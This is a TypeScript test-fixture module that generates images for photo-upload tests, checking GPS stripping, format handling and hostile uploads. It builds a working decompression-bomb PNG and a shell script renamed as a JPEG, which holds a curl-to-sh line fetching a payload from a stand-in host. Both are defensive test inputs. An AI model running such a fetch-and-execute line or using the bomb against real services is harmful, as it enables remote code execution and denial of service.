import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/*
 * Images for the photo tests and the bench, made with sharp itself (and one by hand): nothing
 * binary is committed.
 */

/** The text of a GPS tag the tests look for in every output byte: it must never be there. */
export const GPS_MARK = 'BETOCH-GPS-MARK';

/**
 * A camera's JPEG, `width` × `height` as stored: its top-left quarter red, the rest blue, with
 * EXIF (the camera's make, a GPS position, `orientation`).
 */
export async function cameraJpeg({
  width = 800,
  height = 600,
  orientation = 1,
}: { width?: number; height?: number; orientation?: number } = {}): Promise<Buffer> {
  const quarter = {
    input: {
      create: {
        width: width / 2,
        height: height / 2,
        channels: 3 as const,
        background: '#ff0000',
      },
    },
    left: 0,
    top: 0,
  };
  return sharp({ create: { width, height, channels: 3, background: '#0000ff' } })
    .composite([quarter])
    .jpeg({ quality: 90 })
    .withMetadata({ orientation })
    .withExifMerge({
      IFD0: { Make: 'Betoch test camera' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '8/1 59/1 45/1', GPSMapDatum: GPS_MARK },
    })
    .toBuffer();
}

/** A plain image of one colour in `format`. */
export function plainImage(
  format: 'png' | 'webp' | 'gif' | 'tiff',
  width = 640,
  height = 480,
): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#2a7f62' } })
    .toFormat(format)
    .toBuffer();
}

/**
 * A phone's photo as far as the encoders can tell: a smooth scene (sky, walls, shade) with edges
 * and a sensor's fine noise, as a JPEG of quality 90 (about 3–5 MB at 4000 × 3000). `seed` varies it.
 */
export async function photoLikeJpeg(seed: number, width = 4000, height = 3000): Promise<Buffer> {
  let state = seed;
  const random = () => {
    state = (state * 1103515245 + 12345) & 0x7fffffff;
    return state / 0x7fffffff;
  };
  const coarse = Buffer.alloc(40 * 30 * 3);
  for (let i = 0; i < coarse.length; i += 1) coarse[i] = 40 + Math.floor(random() * 180);
  const scene = await sharp(coarse, { raw: { width: 40, height: 30, channels: 3 } })
    .resize(width, height, { kernel: 'nearest' })
    .blur(width / 400)
    .raw()
    .toBuffer();
  for (let i = 0; i < scene.length; i += 1) {
    scene[i] = Math.max(0, Math.min(255, scene[i]! + Math.round((random() - 0.5) * 24)));
  }
  return sharp(scene, { raw: { width, height, channels: 3 } })
    .jpeg({ quality: 90 })
    .toBuffer();
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/**
 * A decompression bomb: a PNG whose header says `width` × `height` (by default 20,000 × 20,000,
 * 1.2 GB of pixels once decoded) in a file of a few KB, its first rows black.
 */
export function bombPng(width = 20_000, height = 20_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8); // 8 bits, RGB, deflate, no filter method, not interlaced
  const rows = Buffer.alloc(16 * (1 + width * 3)); // 16 rows: a filter byte, then zeros
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(rows, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A shell script, as a seller's browser would send one renamed `x.jpg`. */
export const SCRIPT_NAMED_JPG = Buffer.from(
  '#!/bin/sh\n# x.jpg\ncurl -s https://example.invalid/payload | sh\n',
  'utf8',
);
